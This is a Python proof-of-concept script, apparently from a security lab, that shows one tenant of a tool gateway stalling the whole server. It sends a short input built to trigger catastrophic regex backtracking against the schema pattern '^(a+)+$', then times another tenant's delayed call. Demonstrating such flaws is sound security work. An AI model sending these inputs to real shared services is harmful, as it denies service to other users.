"""One tenant stalls the whole server with a 30-byte argument: the gateway validates upstream
arguments against the upstream's own inputSchema on the event loop, and jsonschema's `pattern`
is Python `re` (backtracking).

The hostile upstream lists `redos` with `{"q": {"type": "string", "pattern": "^(a+)+$"}}` (a
careless schema is enough; no hostile upstream is needed beyond that pattern). acme sends
q = "a"*N + "!"; meanwhile globex calls its native `whoami`. Usage: redos_schema.py [N=26]
"""

from __future__ import annotations

import sys
import threading
import time

from common import Lab


def main() -> None:
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 26
    with Lab() as lab:
        lab.cli("tenant", "grant", "acme", "web__redos")
        time.sleep(1.5)
        acme, globex = lab.client("acme"), lab.client("globex")
        t = time.perf_counter()
        globex.call("whoami")
        print(f"globex whoami, idle server: {(time.perf_counter() - t) * 1000:.0f} ms")
        for size in (10, n):
            res: dict[str, object] = {}

            def attack(size: int = size, res: dict[str, object] = res) -> None:
                t0 = time.perf_counter()
                res["answer"] = acme.call("web__redos", {"q": "a" * size + "!"}, timeout=600)
                res["s"] = round(time.perf_counter() - t0, 2)

            th = threading.Thread(target=attack)
            th.start()
            time.sleep(0.3)
            t = time.perf_counter()
            ok, _ = globex.call("whoami", timeout=600)
            print(f"q of {size + 1} bytes: globex whoami took {time.perf_counter() - t:.2f} s (ok={ok})")
            th.join()
            print(f"  acme's call: {res['s']} s, {str(res['answer'])[:120]}")


if __name__ == "__main__":
    main()
